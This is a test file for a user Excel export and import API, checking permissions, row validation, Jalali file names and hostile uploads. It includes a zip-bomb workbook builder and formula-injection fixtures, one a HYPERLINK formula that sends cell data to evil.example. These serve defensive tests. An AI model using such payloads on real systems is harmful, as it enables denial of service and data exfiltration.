import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PassThrough } from 'node:stream';
import { createDeflateRaw, crc32 } from 'node:zlib';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { db } from '@/server/db/client';
import * as s from '@/server/db/schema';
import { writeUsersXlsx } from '@/server/services/users/export-users-excel';
import exportList from '@/pages/api/v1/user/excel/list';
import register from '@/pages/api/v1/user/excel/register';
import financialExport from '@/pages/api/v1/stat/financial/export';
import { setClock } from '@/server/clock';
import { XLSX_MAX_PART_BYTES } from '@/server/services/users/register-users-from-excel';
import { zipEntries, zipRead } from '@/server/services/files/zip';
import { call, login, setupTestEnv, DEMO_PHONES, type TestEnv } from './harness';

let env: TestEnv;
let superAdmin: string;
let headOffice: string;
let barista: string;
let customer: string;
const EXCEL_SIZE_LIMIT = 2 * 1024 * 1024;

async function multipart(file: { data: Buffer; name: string } | null) {
  const form = new FormData();
  if (file) form.append('file', new Blob([new Uint8Array(file.data)]), file.name);
  else form.append('note', 'x');
  const res = new Response(form);
  return { data: Buffer.from(await res.arrayBuffer()), contentType: res.headers.get('content-type')! };
}

async function exportBuffer(filter: Parameters<typeof writeUsersXlsx>[0]['filter'] = {}): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((r) => out.on('end', r));
  await writeUsersXlsx({ filter, out });
  await ended;
  return Buffer.concat(chunks);
}

async function sheetOf(data: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(data as unknown as ArrayBuffer);
  return book.worksheets[0];
}

const upload = async (data: Buffer, token = headOffice) =>
  call(register, { method: 'POST', raw: await multipart({ data, name: 'users.xlsx' }), token });

beforeAll(async () => {
  env = await setupTestEnv();
  superAdmin = await login(env, DEMO_PHONES.superAdmin);
  barista = await login(env, DEMO_PHONES.mirdamadBarista);
  customer = await login(env, DEMO_PHONES.customer);
  headOffice = await login(env, '+989120001601');
  await db()
    .update(s.users)
    .set({ accessLevel: { users: true } })
    .where(eq(s.users.phone, '+989120001601'));
  await db()
    .update(s.users)
    .set({ firstName: 'Ali', lastName: 'Karimi', firstNameFa: 'علی', wallet: 75_000 })
    .where(eq(s.users.phone, DEMO_PHONES.customer));
});
afterAll(async () => env?.close());

describe('Excel export and import of users', () => {
  it('only the users flag or a super admin may export or import', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('x').addRows([['موبایل'], ['09121600099']]);
    const file = Buffer.from(await book.xlsx.writeBuffer());
    for (const token of [barista, customer]) {
      expect((await call(exportList, { query: {}, token })).status).toBe(403);
      expect((await upload(file, token)).status).toBe(403);
    }
    expect(await db().select().from(s.users).where(eq(s.users.phone, '+989121600099'))).toHaveLength(0);
    expect((await call(exportList, { query: {} })).status).toBe(401);
    expect((await call(exportList, { query: { from: 'yesterday' }, token: superAdmin })).status).toBe(400);
  });

  it('exports the filtered users to a right-to-left sheet with Persian headers and Jalali dates', async () => {
    const sheet = await sheetOf(await exportBuffer({ text: 'karimi' }));
    expect(sheet.views[0]).toMatchObject({ rightToLeft: true });
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['موبایل', 'نام', 'نام خانوادگی']);
    expect(header).toContain('تاریخ عضویت');
    expect(sheet.actualRowCount).toBe(2);
    const row = sheet.getRow(2);
    expect(row.getCell(1).value).toBe('09120000003');
    expect(row.getCell(2).value).toBe('Ali');
    expect(row.getCell(7).value).toBe(75_000);
    expect(String(row.getCell(10).value)).toMatch(/^[۰-۹]{4}\/[۰-۹]{2}\/[۰-۹]{2} [۰-۹]{2}:[۰-۹]{2}$/);
    const all = await sheetOf(await exportBuffer());
    const [{ n }] = [{ n: (await db().select({ id: s.users.id }).from(s.users)).length }];
    expect(all.actualRowCount).toBe(n + 1);
  });

  it('round trip: export, edit a row, add rows, import; bad and duplicate rows are reported, the rest registered', async () => {
    const sheet = await sheetOf(await exportBuffer({ text: 'karimi' }));
    const book = sheet.workbook;
    // The exported row becomes a new person: another phone and name (the id column is ignored).
    sheet.getRow(2).getCell(1).value = '09121600001';
    sheet.getRow(2).getCell(2).value = 'Reza';
    sheet.getRow(2).getCell(4).value = 'رضا';
    sheet.addRow(['۰۹۱۲۱۶۰۰۰۰۲', 'Mina', 'Tehrani']); // Persian digits
    sheet.addRow([9121600003, 'Leading', 'Zero']); // Excel dropped the 0
    sheet.addRow(['12345', 'Bad', 'Phone']);
    sheet.addRow([DEMO_PHONES.customer.replace('+98', '0'), 'Already', 'Here']);
    sheet.addRow(['09121600002', 'Twice', 'InFile']);
    sheet.addRow(['09121600004', 'Latin', 'InFa', 'Sara']);
    sheet.addRow([]);
    const data = Buffer.from(await book.xlsx.writeBuffer());

    const r = await upload(data);
    expect(r.status).toBe(200);
    expect(r.body.registered).toBe(3);
    expect(r.body.rows).toBe(7);
    expect(r.body.failed).toEqual([
      { row: 5, phone: '12345', reason: 'شماره تلفن وارد شده صحیح نمی باشد' },
      { row: 6, phone: '09120000003', reason: 'کاربری با این شماره قبلا ثبت شده است.' },
      { row: 7, phone: '09121600002', reason: 'این شماره در ردیف ۳ فایل هم آمده است.' },
      { row: 8, phone: '09121600004', reason: 'نام فارسی را با حروف فارسی بنویسید.' },
    ]);
    const [reza] = await db().select().from(s.users).where(eq(s.users.phone, '+989121600001'));
    expect(reza).toMatchObject({ firstName: 'Reza', lastName: 'Karimi', firstNameFa: 'رضا', wallet: 0 });
    expect(await db().select().from(s.users).where(eq(s.users.phone, '+989121600002'))).toHaveLength(1);
    expect(await db().select().from(s.users).where(eq(s.users.phone, '+989121600003'))).toHaveLength(1);
    // The customer's own row was not touched by the import.
    const [ali] = await db().select().from(s.users).where(eq(s.users.phone, DEMO_PHONES.customer));
    expect(ali.firstName).toBe('Ali');

    // Importing the same file again registers nobody: every phone is now taken or bad.
    const again = await upload(data);
    expect(again.body.registered).toBe(0);
    expect(again.body.failed).toHaveLength(7);
  });

  it('a malformed, headerless, missing or oversize workbook is a clear 400 and registers nobody', async () => {
    const count = async () => (await db().select({ id: s.users.id }).from(s.users)).length;
    const before = await count();
    const notXlsx = await upload(Buffer.from('phone,name\n09121700001,x\n'));
    expect(notXlsx.status).toBe(400);
    expect(notXlsx.body.error.eLang.fa).toBe('فایل ارسال شده یک فایل اکسل (xlsx) معتبر نیست.');
    const brokenZip = await upload(Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200, 7)]));
    expect(brokenZip.status).toBe(400);
    expect(brokenZip.body.error.eLang.fa).toBe('فایل ارسال شده یک فایل اکسل (xlsx) معتبر نیست.');

    const book = new ExcelJS.Workbook();
    book.addWorksheet('x').addRow(['name', 'tel']);
    const noPhone = await upload(Buffer.from(await book.xlsx.writeBuffer()));
    expect(noPhone.status).toBe(400);
    expect(noPhone.body.error.eLang.fa).toBe('ستون «موبایل» در سطر اول فایل پیدا نشد.');

    const missing = await call(register, { method: 'POST', raw: await multipart(null), token: headOffice });
    expect(missing.status).toBe(400);
    expect(missing.body.error.eLang.fa).toBe('فایل اکسل را انتخاب کنید.');

    const huge = await upload(Buffer.alloc(3 * 1024 * 1024, 1));
    expect(huge.status).toBe(413);
    expect(await count()).toBe(before);
  });
});

/** A zip whose entries are given already deflated (method 8) with the sizes and CRC the test chooses to claim. */
function zipOf(entries: { name: string; deflated: Buffer; size: number; crc: number }[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(e.crc, 14);
    head.writeUInt32LE(e.deflated.length, 18);
    head.writeUInt32LE(e.size, 22);
    head.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(e.crc, 16);
    dir.writeUInt32LE(e.deflated.length, 20);
    dir.writeUInt32LE(e.size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    locals.push(head, name, e.deflated);
    central.push(dir, name);
    offset += 30 + name.length + e.deflated.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** Deflates `head`, then `padMb` megabytes of spaces, then `tail`, a megabyte at a time (the test never holds the whole). */
async function deflatedPadding(
  head: string,
  padMb: number,
  tail: string,
): Promise<{ deflated: Buffer; size: number; crc: number }> {
  const z = createDeflateRaw();
  const out: Buffer[] = [];
  z.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((r) => z.on('end', r));
  const mb = Buffer.alloc(1024 * 1024, 0x20);
  let crc = crc32(head);
  z.write(head);
  for (let i = 0; i < padMb; i++) {
    crc = crc32(mb, crc);
    if (!z.write(mb)) await new Promise((r) => z.once('drain', r));
  }
  crc = crc32(tail, crc);
  z.end(tail);
  await done;
  return {
    deflated: Buffer.concat(out),
    size: Buffer.byteLength(head) + padMb * 1024 * 1024 + Buffer.byteLength(tail),
    crc: crc >>> 0,
  };
}

/** A small workbook (one phone column) whose first sheet unpacks to `padMb` megabytes; `claim` overrides the size its zip states. */
async function bombWorkbook(padMb: number, claim?: number): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  book.addWorksheet('x').addRows([['موبایل'], ['09121800001']]);
  const plain = Buffer.from(await book.xlsx.writeBuffer());
  // Take every part of a real workbook, then swap in a sheet that is mostly whitespace.
  const parts: { name: string; deflated: Buffer; size: number; crc: number }[] = [];
  for (const entry of zipEntries({ data: plain })) {
    const data = zipRead({ data: plain, entry, maxBytes: 1024 * 1024 });
    if (entry.name !== 'xl/worksheets/sheet1.xml') {
      parts.push({ name: entry.name, ...(await deflatedPadding(data.toString('latin1'), 0, '')) });
      continue;
    }
    const xml = data.toString('utf8');
    const at = xml.indexOf('<sheetData>') + '<sheetData>'.length;
    const bomb = await deflatedPadding(xml.slice(0, at), padMb, xml.slice(at));
    parts.push({ name: entry.name, ...bomb, size: claim ?? bomb.size });
  }
  return zipOf(parts);
}

describe('importing a hostile workbook', () => {
  it('refuses a small workbook whose sheet unpacks to 96 MB, from its directory, without unpacking it', async () => {
    const before = (await db().select({ id: s.users.id }).from(s.users)).length;
    const file = await bombWorkbook(96);
    expect(file.length).toBeLessThan(EXCEL_SIZE_LIMIT);
    const started = Date.now();
    const r = await upload(file);
    expect(r.status).toBe(400);
    expect(r.body.error.eLang.fa).toBe('محتوای فایل اکسل بیش از حد بزرگ است؛ آن را در چند فایل کوچک‌تر بفرستید.');
    expect(Date.now() - started).toBeLessThan(10_000);
    expect((await db().select({ id: s.users.id }).from(s.users)).length).toBe(before);
  });

  it('stops unpacking at the cap when the zip lies about the size', async () => {
    const file = await bombWorkbook(40, 2_000);
    expect(40 * 1024 * 1024).toBeGreaterThan(XLSX_MAX_PART_BYTES);
    const r = await upload(file);
    expect(r.status).toBe(400);
    expect(r.body.error.eLang.fa).toBe('محتوای فایل اکسل بیش از حد بزرگ است؛ آن را در چند فایل کوچک‌تر بفرستید.');
  });

  it('refuses a sheet over the row limit and registers nobody', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('x');
    sheet.addRow(['موبایل']);
    for (let i = 0; i < 5001; i++) sheet.addRow([`0912${String(3000000 + i)}`]);
    const r = await upload(Buffer.from(await book.xlsx.writeBuffer()));
    expect(r.status).toBe(400);
    expect(r.body.error.eLang.fa).toBe('هر فایل حداکثر ۵٬۰۰۰ ردیف کاربر می‌تواند داشته باشد.');
    expect(await db().select().from(s.users).where(eq(s.users.phone, '+989123000000'))).toHaveLength(0);
  });

  it('reads the streamed export itself back (inline strings, no shared strings part)', async () => {
    const n = (await db().select({ id: s.users.id }).from(s.users)).length;
    const r = await upload(await exportBuffer());
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ registered: 0, rows: n });
  });
});

describe('exported cells are never formulas', () => {
  it('writes a name that starts like a formula as text, and keeps numbers as numbers', async () => {
    const phone = '+989121900001';
    await db().insert(s.users).values({
      id: 'f0f0f0f0f0f0f0f0f0f0f0f0',
      phone,
      referralCode: 'FORMULA1',
      firstName: '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
      lastName: '+SUM(1,2)',
      firstNameFa: '@cmd',
      lastNameFa: '-2+3',
      email: '\tx@example.com',
      wallet: 12_000,
    });
    const sheet = await sheetOf(await exportBuffer({ text: '09121900001' }));
    const row = sheet.getRow(2);
    expect(row.getCell(1).value).toBe('09121900001');
    expect(row.getCell(2).value).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(3).value).toBe("'+SUM(1,2)");
    expect(row.getCell(4).value).toBe("'@cmd");
    expect(row.getCell(5).value).toBe("'-2+3");
    expect(row.getCell(6).value).toBe("'\tx@example.com");
    expect(row.getCell(7).value).toBe(12_000);
    for (let c = 1; c <= 11; c++) expect(row.getCell(c).type, `column ${c}`).not.toBe(ExcelJS.ValueType.Formula);
  });
});

describe('file names of downloads', () => {
  it('name the users export and the financial report by Jalali days, in Latin letters and digits', async () => {
    // 00:30 on 5 Azar 1405 in Tehran, still 25 November in UTC.
    setClock(new Date('2026-11-25T21:00:00Z'));
    try {
      const users = await call(exportList, { query: {}, token: headOffice });
      expect(users.status).toBe(200);
      expect(users.headers['content-disposition']).toBe('attachment; filename="users-1405-09-05.xlsx"');
    } finally {
      setClock(undefined);
    }
    const report = await call(financialExport, { query: { from: '2026-11-01', to: '2026-11-25' }, token: superAdmin });
    expect(report.status).toBe(200);
    expect(report.headers['content-disposition']).toBe(
      `attachment; filename="financial-report-1405-08-10-to-1405-09-04.xlsx"; filename*=UTF-8''financial-report-1405-08-10-to-1405-09-04.xlsx`,
    );
  });
});
